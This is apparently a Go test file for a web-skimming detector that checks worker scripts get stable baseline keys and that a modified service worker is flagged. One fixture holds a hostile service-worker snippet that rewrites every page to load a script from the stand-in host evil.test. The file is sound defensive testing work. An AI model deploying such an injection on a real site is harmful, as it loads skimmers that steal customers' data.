package baseline

import (
	"fmt"
	"strings"
	"testing"

	skimguard "github.com/skimguard/skimguard"
)

// withWorkers adds to load n of the shop what its workers ran: a
// dedicated worker started from a blob: URL (a new id on every load) that
// imports a script and evals code, a shared worker with a cache buster,
// and a service worker, each sending requests of its own.
func withWorkers(o *skimguard.Observation, n int, swSource string) *skimguard.Observation {
	blob := skimguard.WorkerFrame(skimguard.WorkerDedicated, fmt.Sprintf("blob:https://shop.test/%s-%s-4%s-a%s-%s", rnd(n, "b1", 8), rnd(n, "b2", 4), rnd(n, "b3", 3), rnd(n, "b4", 3), rnd(n, "b5", 12)))
	shared := skimguard.WorkerFrame(skimguard.WorkerShared, fmt.Sprintf("https://shop.test/static/cart-sync.js?v=%d", ts(n)))
	sw := skimguard.WorkerFrame(skimguard.WorkerService, "https://shop.test/sw.js")
	o.Scripts = append(o.Scripts,
		script(skimguard.ScriptExternal, "https://cdn.good.test/crypto-worker.js", blob, `importScripts("https://cdn.good.test/crypto-worker.js")`),
		script(skimguard.ScriptDynamic, "", blob, fmt.Sprintf(`self.seed = %d`, ts(n))),
		script(skimguard.ScriptExternal, fmt.Sprintf("https://shop.test/static/cart-sync.js?v=%d", ts(n)), shared, `onconnect = function (e) { e.ports[0].postMessage("ok") }`),
		script(skimguard.ScriptExternal, "https://shop.test/sw.js", sw, swSource),
	)
	numberOrdinals(o)
	o.Connections = append(o.Connections, skimguard.Connection{Origin: "https://api.shop.test", Types: []string{"Fetch"}, Initiators: []string{shared}, Example: "https://api.shop.test/cart", Count: 1})
	return o
}

const cleanSW = `self.addEventListener("fetch", function (e) { e.respondWith(fetch(e.request)); });`

// TestWorkerScriptsHaveStableKeys: the scripts of workers are keyed by the
// worker's kind and normalised script URL, so that loads that differ only
// in a blob: id, a cache buster or eval'd values raise nothing, and a
// changed service worker is a script.changed like any script.
func TestWorkerScriptsHaveStableKeys(t *testing.T) {
	b := learn(t, withWorkers(shop(1), 1, cleanSW), withWorkers(shop(2), 2, cleanSW))
	var keys []string
	for _, it := range b.Items {
		if it.Type == skimguard.ItemScript && strings.Contains(it.Key, "worker") {
			keys = append(keys, it.Key)
		}
	}
	if len(keys) != 4 {
		t.Fatalf("the baseline has %d worker scripts, want 4: %q", len(keys), keys)
	}
	for _, k := range keys {
		if strings.Contains(k, "top") {
			t.Errorf("worker script key %q names the page's document", k)
		}
	}
	if fs := Compare(b, withWorkers(shop(3), 3, cleanSW)); len(fs) > 0 {
		t.Fatalf("an unchanged page with workers raised findings:%s", describe(fs))
	}
	fs := Compare(b, withWorkers(shop(4), 4, cleanSW+`
self.addEventListener("fetch", function (e) { if (e.request.mode === "navigate") e.respondWith(fetch(e.request).then(function (r) { return r.text(); }).then(function (h) { return new Response(h.replace("</body>", "<script src=//evil.test/s.js></script></body>"), {headers: {"Content-Type": "text/html"}}); })); });`))
	if len(fs) != 1 || fs[0].Kind != skimguard.KindScriptChanged || !strings.Contains(fs[0].Subject, "/sw.js") {
		t.Fatalf("a changed service worker must be one script.changed naming it; got:%s", describe(fs))
	}
}

func TestParseWorkerFrame(t *testing.T) {
	for _, k := range []skimguard.WorkerKind{skimguard.WorkerDedicated, skimguard.WorkerShared, skimguard.WorkerService} {
		kind, u, ok := skimguard.ParseWorkerFrame(skimguard.WorkerFrame(k, "https://shop.test/w.js"))
		if !ok || kind != k || u != "https://shop.test/w.js" {
			t.Errorf("ParseWorkerFrame(WorkerFrame(%q)) = %q, %q, %v", k, kind, u, ok)
		}
	}
	if _, _, ok := skimguard.ParseWorkerFrame("https://shop.test/checkout"); ok {
		t.Error("a document's URL parsed as a worker")
	}
}
